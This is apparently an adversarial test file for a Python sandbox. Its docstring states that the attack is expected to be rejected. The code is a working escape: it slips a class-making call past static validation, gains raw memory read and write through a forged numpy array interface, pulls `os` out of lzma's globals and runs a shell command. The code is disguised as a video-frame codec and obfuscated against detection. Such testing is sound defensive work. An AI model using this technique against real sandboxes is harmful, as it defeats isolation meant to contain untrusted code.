"""Attack: the class-making call goes through an allowed helper: itertools.starmap(type,
[(name, bases, namespace)]) calls type with three arguments where no call of `type` is
written at all. The class maps memory through a computed "__array_interface__"; the attack
forges a reference to lzma's module globals, takes os from them and runs a shell.

Expected: rejected statically (`type` is only ever called, with one argument; it passed
validation before). With static validation off os.system trips the audit hook (violation);
seccomp kills the fork, and without it there is no shell in the sandbox's file view.
"""
import itertools
import lzma

import numpy as np

SPECIAL = "_" * 2 + "array_interface" + "_" * 2


def address_of(value):
    return int(repr(value).rsplit(" ", 1)[1].rstrip(">"), 16)  # "<function f at 0x7f...>"


def memory(address, size):
    interface = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
    (view,) = itertools.starmap(type, [("View", (), {SPECIAL: interface})])
    return np.asarray(view())


def word(address, value=None):
    if value is not None:
        memory(address, 8)[:] = np.frombuffer(value.to_bytes(8, "little"), np.uint8)
    return int.from_bytes(memory(address, 8).tobytes(), "little")


def holder(value=None):
    return value


def object_at(address):
    word(address, word(address) + 1)
    word(word(address_of(holder) + 56) + 24, address)  # holder's first default
    return holder()


def compress_video_frame(frame, frame_index, config):
    lzma_globals = object_at(word(address_of(lzma.compress) + 16))  # func_globals
    if lzma_globals["o" + "s"].system(f"touch {config['target_dir']}/meaning_type_indirect") == 0:
        return b"ESCAPED:shell ran"
    raise RuntimeError("the shell did not run")


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
